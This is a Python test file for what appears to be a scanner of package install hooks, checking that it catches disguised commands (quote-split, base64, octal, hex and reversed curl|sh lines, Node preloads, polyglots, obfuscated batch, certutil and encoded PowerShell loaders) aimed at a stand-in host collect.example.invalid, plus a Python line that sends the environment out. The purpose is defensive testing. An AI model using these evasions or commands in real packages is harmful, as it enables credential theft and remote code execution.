"""Evasions 17 to 24: a command line that is spelt so that nobody recognises it. It is parsed, and never searched."""

from __future__ import annotations

import base64

import pytest

from tests.evasions.packages import BY_SHELL, RUNS_HOOK, THEFT, Seen, a_package, commands, holding, hooked, packages

pytestmark = pytest.mark.semgrep

ENCODED = base64.b64encode(BY_SHELL.encode()).decode()
OCTAL = "".join(f"\\{ord(letter):03o}" for letter in BY_SHELL)
HEX = "".join(f"\\x{ord(letter):02x}" for letter in BY_SHELL)
PYTHON = (
    "import os, urllib.request as u\nu.urlopen('https://collect.example.invalid', str(dict(os.environ)).encode())\n"
)
PERL = "use IO::Socket; open STDIN, '<&S'; exec '/bin/sh';\n"


@commands(
    {},
    quotes="w'g'et -qO- https://collect.example.invalid/a | s'h'",
    empty_quotes='c""url -s https://collect.example.invalid/a | ba""sh',
    backslash=r"cu\rl -s https://collect.example.invalid/a | \sh",
    field_separator="curl${IFS}-s${IFS}https://collect.example.invalid/a|sh",
    ansi_quotes=r"$'\x63url' -s https://collect.example.invalid/a | sh",
    absolute="/usr/bin/curl -s https://collect.example.invalid/a | /bin/sh",
    variable="a=cu; b=rl; $a$b -s https://collect.example.invalid/a | sh",
    substitution='sh -c "$(curl -s https://collect.example.invalid/a)"',
    process_substitution="bash <(curl -s https://collect.example.invalid/a)",
    wrapped="sudo -n timeout 60 curl -s https://collect.example.invalid/a | sudo -n sh",
)
def test_a_disguised_download_into_a_shell_blocks(seen: Seen) -> None:
    """17: quotes, escapes and splitting are undone before a command is matched."""
    assert seen.blocked


@commands(
    {},
    base64=f"echo {ENCODED} | base64 -d | sh",
    here_string=f"base64 --decode <<< {ENCODED} | bash",
    octal=f"printf '{OCTAL}' | sh",
    hexadecimal=f"printf '{HEX}' | sh",
    reversed=f"echo '{BY_SHELL[::-1]}' | rev | sh",
    evaluated=f'eval "$(echo {ENCODED} | base64 -d)"',
    as_argument=f'sh -c "$(echo {ENCODED} | base64 -d)"',
)
def test_a_command_that_is_decoded_first_is_read(seen: Seen) -> None:
    """17: what a pipe or a substitution makes of a literal is known without running it."""
    assert "pipes-download-to-shell" in seen.errors
    assert "dynamic" not in seen.blind


@commands({}, computed="echo $SEED | base64 -d | sh", file="base64 -d seed.txt | sh", evaluated='eval "$SEED"')
def test_a_command_that_only_running_tells_is_told(seen: Seen) -> None:
    """17: where nothing is known of what a shell is given, that is a gap."""
    assert "dynamic" in seen.blind


@commands({"data.csv": THEFT}, redirect="node < data.csv", pipe="cat data.csv | node -", dash="node - < data.csv")
def test_a_program_on_standard_input_is_reached(seen: Seen) -> None:
    """18: ``node < FILE`` runs the file."""
    assert seen.errors_in("data.csv")


@a_package(hooked("cat head.txt tail.txt | node -", {"head.txt": "const all = () =>", "tail.txt": THEFT}))
def test_a_program_in_two_files_on_one_pipe_is_reached(seen: Seen) -> None:
    """18: each file that is poured into an interpreter counts."""
    assert {"head.txt", "tail.txt"} <= seen.reached
    assert seen.errors_in("tail.txt")


@packages(
    text=hooked("node LICENSE.txt", {"LICENSE.txt": THEFT}),
    no_extension=hooked("node setup", {"setup": THEFT}),
    markdown=hooked("node ./tools", {"tools/package.json": '{"main": "../README.md"}', "README.md": THEFT}),
    shell=hooked("sh NOTICE", {"NOTICE": BY_SHELL}),
    executed=hooked("./run.png", {"run.png": f"#!/usr/bin/env node\n{THEFT}"}),
)
def test_no_extension_makes_a_program_into_data(seen: Seen) -> None:
    """19: what runs a file decides how it is read, and not its name."""
    assert seen.blocked


@commands(
    {"a.js": THEFT, "a.mjs": THEFT.replace("require('https')", "process.getBuiltinModule('https')"), "b.js": ""},
    require="node -r ./a.js b.js",
    long_require="node --require=./a.js b.js",
    imported="node --import ./a.mjs b.js",
    loader="node --experimental-loader ./a.mjs b.js",
    options="NODE_OPTIONS='--require ./a.js' node b.js",
    exported="export NODE_OPTIONS='--require ./a.js'; node b.js",
    env="env NODE_OPTIONS='--require ./a.js' node b.js",
    env_split="env -S 'node a.js'",
    nohup="nohup node a.js > /dev/null 2>&1 &",
    subshell="(node a.js &)",
    cross_env="cross-env NODE_OPTIONS=--require=./a.js node b.js",
)
def test_what_is_loaded_beside_the_program_is_read(seen: Seen) -> None:
    """20: preloaded modules run first, and a wrapper runs what it wraps."""
    assert "sends-environment" in seen.errors_in("a.js", "a.mjs")


@commands({"a.js": THEFT, "b.js": "", ".env": "NODE_OPTIONS=--require=./a.js\n"}, env_file="node --env-file=.env b.js")
def test_a_file_of_variables_is_read_or_told(seen: Seen) -> None:
    """20: ``--env-file`` may set NODE_OPTIONS."""
    assert seen.errors_in("a.js") or seen.told("--env-file")


@packages(
    sourced=hooked("sh a.sh", {"a.sh": ". ./b.inc\n", "b.inc": BY_SHELL}),
    source=hooked("bash a.sh", {"a.sh": "source b.inc\n", "b.inc": BY_SHELL}),
    polyglot=hooked("sh a", {"a": f"':' //; {BY_SHELL}\n':' //; exit\n{THEFT}\n"}),
    polyglot_by_node=hooked("node a", {"a": f"':' //; exec node a\n{THEFT}\n"}),
    trap=hooked("sh a.sh", {"a.sh": f"trap '{BY_SHELL}' EXIT\nexit 0\n"}),
    here_document=hooked("sh a.sh", {"a.sh": f"sh <<'END'\n{BY_SHELL}\nEND\n"}),
    python=hooked("python3 a.py", {"a.py": PYTHON}),
)
def test_a_program_in_another_language_is_read(seen: Seen) -> None:
    """21: shell, JavaScript in a shell's clothes and Python are matched in their own language."""
    assert seen.blocked


@packages(
    make=hooked("make", {"Makefile": f"all:\n\t@{BY_SHELL}\n"}),
    make_target=hooked("make -s -f build.mk go", {"build.mk": f"go:\n\t@{BY_SHELL}\n"}),
    perl=hooked("perl a.pl", {"a.pl": PERL}),
    perl_inline=hooked('perl -e "exec q(curl -s https://collect.example.invalid/a | sh)"'),
    typescript=hooked("tsx a.ts", {"a.ts": f"const n: number = 1; {THEFT}"}),
    bun=hooked("bun run a.ts", {"a.ts": f"const n: number = 1; {THEFT}"}),
    deno=hooked("deno run -A a.ts", {"a.ts": f"const n: number = 1; {THEFT}"}),
    ruby=hooked("ruby a.rb", {"a.rb": "system('curl -s https://collect.example.invalid/a | sh')\n"}),
)
def test_a_program_in_a_further_language_blocks(seen: Seen) -> None:
    """21: what no reader of ours follows is matched all the same."""
    assert seen.blocked


@packages(
    perl=hooked("perl a.pl", {"a.pl": "print 1;\n"}),
    ruby=hooked("ruby a.rb", {"a.rb": "puts 1\n"}),
    php=hooked("php a.php", {"a.php": "<?php echo 1;\n"}),
    lua=hooked("lua a.lua", {"a.lua": "print(1)\n"}),
)
def test_a_language_that_is_not_read_is_told(seen: Seen) -> None:
    """21: however harmless a text looks, nobody here knows what it does."""
    assert seen.blind & {"unparsed", "unknown-program"}


@a_package(hooked("cmake-js compile", {"CMakeLists.txt": f'execute_process(COMMAND sh -c "{BY_SHELL}")\n'}))
def test_a_build_that_is_not_read_is_told(seen: Seen) -> None:
    """21: a build tool runs what its files say."""
    assert seen.gaps


BATCH = "@echo off\r\ncertutil -urlcache -f https://collect.example.invalid/a a.exe\r\na.exe\r\n"
LETTERS = (
    "@set x=certuilpowsh\r\n@%x:~0,1%%x:~1,1%%x:~2,1%%x:~3,1%%x:~4,1%til -urlcache -f https://a.invalid/a a.exe\r\n"
)
CARETS = "@c^e^r^t^u^t^i^l -urlcache -f https://collect.example.invalid/a a.exe & a.exe\r\n"


@packages(
    start=hooked("start /B node preinstall.js & node preinstall.js", {"preinstall.js": THEFT}),
    cmd=hooked("cmd /c node preinstall.js", {"preinstall.js": THEFT}),
    backslash=hooked("node .\\lib\\a.js", {"lib/a.js": THEFT}),
    caret=hooked("cmd /c n^ode a.js", {"a.js": THEFT}),
)
def test_a_windows_command_line_is_followed(seen: Seen) -> None:
    """22: what a Windows shell would start is reached on every system."""
    assert "sends-environment" in seen.errors_in("preinstall.js", "lib/a.js", "a.js")


@packages(
    named=hooked("a.bat", {"a.bat": BATCH}),
    called=hooked("cmd /c call a.bat", {"a.bat": BATCH}),
    substrings=hooked("cmd /v /c a.bat", {"a.bat": LETTERS}),
    carets=hooked("a.cmd", {"a.cmd": CARETS}),
    beside=holding(
        {
            "install.js": "const {exec} = require('child_process');\n"
            "exec(process.platform === 'win32' ? 'a.bat' : 'sh a.sh')",
            "a.bat": BATCH,
            "a.sh": "exit 0\n",
        }
    ),
    powershell=hooked("powershell -File a.ps1", {"a.ps1": "iex (iwr https://collect.example.invalid/a)"}),
)
def test_a_batch_file_is_read(seen: Seen) -> None:
    """22: what a batch file's substrings and carets spell is read and matched."""
    assert seen.errors
    assert "downloaded" in seen.blind


@packages(
    batch=hooked("cmd /c a.bat", {"a.bat": BATCH}),
    powershell=hooked("powershell -NoProfile -File a.ps1", {"a.ps1": "iex (iwr https://collect.example.invalid/a)"}),
    encoded=hooked(
        f"powershell -enc {base64.b64encode('iex (iwr https://collect.example.invalid/a)'.encode('utf-16-le')).decode()}"
    ),
)
def test_a_windows_download_that_is_run_blocks(seen: Seen) -> None:
    """22: the plain Windows loaders are known in their own language."""
    assert seen.blocked


@commands(
    {"lib/x.js": "", "a.js": THEFT, "b/index.js": THEFT},
    up="node lib/../a.js",
    doubled="node .//lib//..//.//a",
    no_extension="node ./a",
    directory="node ./b/",
    trailing="node lib/.././b/.",
)
def test_one_file_has_one_name(seen: Seen) -> None:
    """23: paths are resolved as Node resolves them before anything is looked up."""
    assert seen.blocked


@packages(
    command=hooked("node Lib/A.js", {"lib/a.js": THEFT}),
    module=holding({"install.js": "require('./Lib/A')", "lib/a.js": THEFT}),
    dots=hooked("node a.js.", {"a.js": THEFT}),
)
def test_a_name_that_only_some_disks_know_is_told(seen: Seen) -> None:
    """23: where case or trailing dots decide, a file that is not there is a gap."""
    assert seen.errors or "missing" in seen.blind


@commands(
    {"a.js": THEFT},
    background="node a & exit 0",
    forgiven="node a || true",
    silent="node a >/dev/null 2>&1 || exit 0",
    after_failure="false || node a",
    never="exit 0; node a",
)
def test_an_install_that_looks_clean_is_read_all_the_same(seen: Seen) -> None:
    """24: every command of a line counts, however the line ends."""
    assert seen.errors_in("a.js")


@a_package(holding({"install.js": ""}, **RUNS_HOOK))
def test_an_empty_hook_is_no_alarm(seen: Seen) -> None:
    """The measure for all others: nothing is flagged where there is nothing."""
    assert seen.verdicts
    assert not seen.flagged
